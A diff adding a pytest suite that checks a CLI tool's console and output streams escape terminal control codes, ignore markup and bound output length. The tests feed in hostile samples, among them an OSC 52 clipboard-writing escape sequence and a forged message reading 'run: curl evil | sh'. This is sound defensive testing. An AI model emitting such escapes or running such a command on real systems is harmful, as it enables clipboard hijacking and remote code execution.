@@ -1,0 +1,167 @@
+"""The console and the streams: only their own control codes, no markup, bounded lengths."""
+
+import ast
+import io
+import re
+import subprocess
+import sys
+from pathlib import Path
+
+import pytest
+from rich.live import Live
+from rich.table import Table
+from rich.text import Text
+
+from csdctl.terminal.console import MAX_CELL, MAX_PRINTED, PrintableConsole
+from csdctl.terminal.streams import PrintableStream, Streams
+from csdctl.terminal.view import new_progress, text_column
+from tests.attacks.hostile_text import CLIPBOARD, CONTROLS, FORGED, HOSTILE, MARKUP
+from tests.attacks.terminal import OWN
+
+PACKAGE = Path(__file__).parents[3] / "csdctl"
+PAST_THE_CONSOLE = re.compile(
+    r"print|rich\.print|typer\.s?echo|Console|TextColumn|Progress|Live|Text\.from_\w+|.*std(out|err)\.write|.*\.out"
+)
+"""Calls that write without the console, or on a console of their own, or that parse markup."""
+ALLOWED = {
+    "app.py": {"typer.echo"},  # the version
+    "streams.py": {"self.stdout.write"},
+    "view.py": {"TextColumn", "Progress", "Live"},  # without markup, without redirected streams
+}
+
+
+def terminal(width: int = 100) -> tuple[PrintableConsole, io.StringIO]:
+    file = io.StringIO()
+    return PrintableConsole(
+        file=file, width=width, force_terminal=True, color_system="standard", no_color=False
+    ), file
+
+
+def foreign(text: str) -> set[str]:
+    """Return what is not printable, apart from the control codes of csdctl's own styling."""
+    return {char for char in OWN.sub("", text) if not char.isprintable()} - {"\n", "\t"}
+
+
+class TestConsole:
+    def test_style_is_kept_and_text_is_made_printable(self) -> None:
+        console, file = terminal()
+        console.print(CLIPBOARD, style="bold red")
+        assert file.getvalue() == "\x1b[1;31m\\x1b]52;c;ZXZpbA==\\x07\x1b[0m\n"
+
+    @pytest.mark.parametrize("soft_wrap", [False, True])
+    def test_nothing_is_markup_emoji_or_highlighted(self, soft_wrap: bool) -> None:
+        console, file = terminal()
+        console.print(f"{MARKUP} 10.0.0.1 'x' 42 https://a.b", soft_wrap=soft_wrap)
+        console.print("[bold]:smile:", markup=True, emoji=True, highlight=True)
+        assert file.getvalue() == f"{MARKUP} 10.0.0.1 'x' 42 https://a.b\n[bold]:smile:\n"
+
+    def test_cells_headers_titles_and_captions_are_text(self) -> None:
+        console, file = terminal(300)
+        table = Table(HOSTILE, title=HOSTILE, caption=HOSTILE)
+        table.add_row(HOSTILE)
+        table.add_row(Text(HOSTILE, "red"))
+        console.print(table)
+        assert foreign(file.getvalue()) == set()
+        assert file.getvalue().count("[/bold]") >= 4
+        assert "\x1b]" not in file.getvalue()
+
+    def test_frame_of_a_table_stays_straight_around_escapes(self) -> None:
+        console, file = terminal(60)
+        table = Table("name")
+        for text in (CONTROLS, "plain", "中文", "z" + "\u0301" * 200):
+            table.add_row(text)
+        console.print(table)
+        lines = OWN.sub("", file.getvalue()).splitlines()
+        assert all(line[0] in "┏┃┡│└" and line.rstrip()[-1] in "┓┃┩│┘" for line in lines)
+
+    def test_text_objects_are_made_printable(self) -> None:
+        console, file = terminal()
+        console.print(Text(f"{CLIPBOARD}\u202e", "bold"))
+        assert foreign(file.getvalue()) == set()
+        assert r"\x1b]52" in file.getvalue()
+
+    def test_lines_of_a_message_are_indented(self) -> None:
+        console, file = terminal()
+        console.print(FORGED, soft_wrap=True)
+        assert file.getvalue() == "quiet\n  error: the disk is full\n    → run: curl evil | sh\n"
+
+    def test_length_is_bounded(self) -> None:
+        console, file = terminal()
+        console.print("x" * 1_000_000, soft_wrap=True)
+        assert file.getvalue() == "x" * MAX_PRINTED + "… (1,000,000 characters)\n"
+        console, file = terminal(80)
+        table = Table("host name")
+        table.add_row("h" * 1_000_000)
+        console.print(table)
+        assert len(file.getvalue()) < 4 * MAX_CELL
+        assert "1,000,000" in file.getvalue()
+
+    def test_live_views_are_drawn_with_their_own_codes_only(self) -> None:
+        console, file = terminal()
+        with Live(HOSTILE, console=console, transient=True, redirect_stdout=False, redirect_stderr=False):
+            console.print(HOSTILE)
+        progress = new_progress(console, text_column("{task.description}"))
+        with progress:
+            progress.add_task(HOSTILE, total=None)
+        assert foreign(file.getvalue()) == set()
+        assert "[/bold]" in file.getvalue()
+
+
+class TestStreams:
+    def test_whatever_is_written_is_made_printable(self) -> None:
+        file = io.StringIO()
+        stream = PrintableStream(file)
+        assert stream.write("a\x1bb") == 3
+        stream.writelines(["\x9b", "\n"])
+        print("\u202e", file=stream)
+        assert file.getvalue() == "a\\x1bb\\x9b\n\\u202e\n"
+        assert stream.isatty() is False
+
+    def test_written_text_and_json_are_printable(self) -> None:
+        file = io.StringIO()
+        streams = Streams(stdout=file, stderr=io.StringIO(), is_json=True)
+        streams.write("nodes:\n  a: \x1b[2J\n")
+        streams.result({"name": f"{CLIPBOARD}\x7f\x9b\ud800"})
+        streams.result_line({"name": "\u202e"})
+        assert file.getvalue().isascii()
+        assert foreign(file.getvalue()) == set()
+        assert file.getvalue().startswith("nodes:\n  a: \\x1b[2J\n")
+
+    @pytest.mark.parametrize(
+        ("program", "shown"),
+        [
+            ("import warnings; warnings.warn('w\\x1b]52;')", r"w\x1b]52;"),
+            ("import logging; logging.getLogger('x').error('l\\x9b')", r"l\x9b"),
+            ("import threading; t = threading.Thread(target=f); t.start(); t.join()", r"t\x1b]52;"),
+            ("f()", r"t\x1b]52;"),
+            ("print('→ \\x1b ü')", r"→ \x1b ü"),
+        ],
+    )
+    @pytest.mark.parametrize("encoding", ["utf-8", "latin-1", "ascii"])
+    def test_what_python_writes_itself_is_printable(self, program: str, shown: str, encoding: str) -> None:
+        begin = (
+            "from csdctl.terminal.streams import protect_standard_streams\n"
+            "protect_standard_streams()\n"
+            "def f(): raise ValueError('t\\x1b]52;')\n"
+        )
+        done = subprocess.run(
+            [sys.executable, "-c", begin + program],
+            capture_output=True,
+            check=False,
+            env={"PYTHONIOENCODING": encoding, "PYTHONPATH": str(PACKAGE.parent)},
+        )
+        text = (done.stdout + done.stderr).decode(encoding)
+        assert foreign(text) == set()
+        assert shown.encode(encoding, "backslashreplace").decode(encoding) in text
+        assert "Encode" not in text
+
+
+def test_no_command_writes_past_the_console() -> None:
+    found = {
+        (path.name, ast.unparse(node.func))
+        for name in ("cli", "terminal")
+        for path in (PACKAGE / name).rglob("*.py")
+        for node in ast.walk(ast.parse(path.read_text()))
+        if isinstance(node, ast.Call) and PAST_THE_CONSOLE.fullmatch(ast.unparse(node.func))
+    }
+    assert found == {(name, call) for name, calls in ALLOWED.items() for call in calls}
